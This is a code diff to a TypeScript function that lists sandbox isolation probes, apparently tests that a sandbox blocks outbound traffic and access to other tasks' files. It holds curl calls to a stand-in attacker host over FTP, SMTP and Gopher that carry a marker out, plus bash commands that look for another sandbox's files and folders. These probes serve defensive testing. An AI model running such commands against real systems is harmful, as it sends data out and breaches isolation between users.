@@ -42,18 +42,18 @@ export function otherDoors(place: Place): readonly Probe[] {
       ['-k', `https://localhost:${place.canary.httpsPort}/${place.marker}`],
       ['curl error 7'],
     ),
-    curl('ftp', 'FTP', [`ftp://attacker.example/${place.marker}`], ['curl error 7', 'curl error 1']),
+    curl('ftp', 'FTP', [`ftp://attacker.example/${place.marker}`], ['curl error 7']),
     curl(
       'smtp',
       'mail',
       ['--mail-from', 'a@attacker.example', '--mail-rcpt', 'b@attacker.example', 'smtp://attacker.example/'],
-      ['curl error 7', 'curl error 1'],
+      ['curl error 7'],
     ),
     curl(
       'gopher',
       'Gopher on an open port, to write any bytes',
       [`gopher://attacker.example:80/_${place.marker}`],
-      ['curl error 52', 'curl error 1', 'curl error 56', 'curl error 0'],
+      ['curl error 52', 'curl error 56', 'curl error 0'],
     ),
     curl(
       'address-decimal',
@@ -78,7 +78,7 @@ export function otherDoors(place: Place): readonly Probe[] {
       'other-files',
       'files of another task’s sandbox',
       'bash',
-      'echo own > /tmp/own-file; for f in /tmp /dev/shm /workspace; do cat $f/of-the-other-task 2>/dev/null && echo SEEN; done | grep . || { test "$(cat /tmp/own-file)" = own && echo "not there"; }',
+      'echo own > /tmp/own-file; test "$(cat /tmp/own-file)" = own || exit 1; for f in /tmp /dev/shm /workspace; do cat $f/of-the-other-task 2>/dev/null && seen=SEEN; done; echo "${seen:-not there}"',
       ['not there'],
     ),
     script(
@@ -102,7 +102,7 @@ export function otherDoors(place: Place): readonly Probe[] {
       'other-folders',
       'folders of other sandboxes on this machine',
       'bash',
-      'ls -d /tmp >/dev/null && { ls -d /tmp/airlock-sandboxes-* /airlock /var/tmp 2>/dev/null || echo "not there"; }',
+      `for f in ${place.sandboxFolder} /tmp/airlock-sandboxes-* /airlock /var/tmp; do test -e "$f" && seen+=" $f"; done; test -e /tmp || exit 1; echo "\${seen:-not there}"`,
       ['not there'],
     ),
     script(
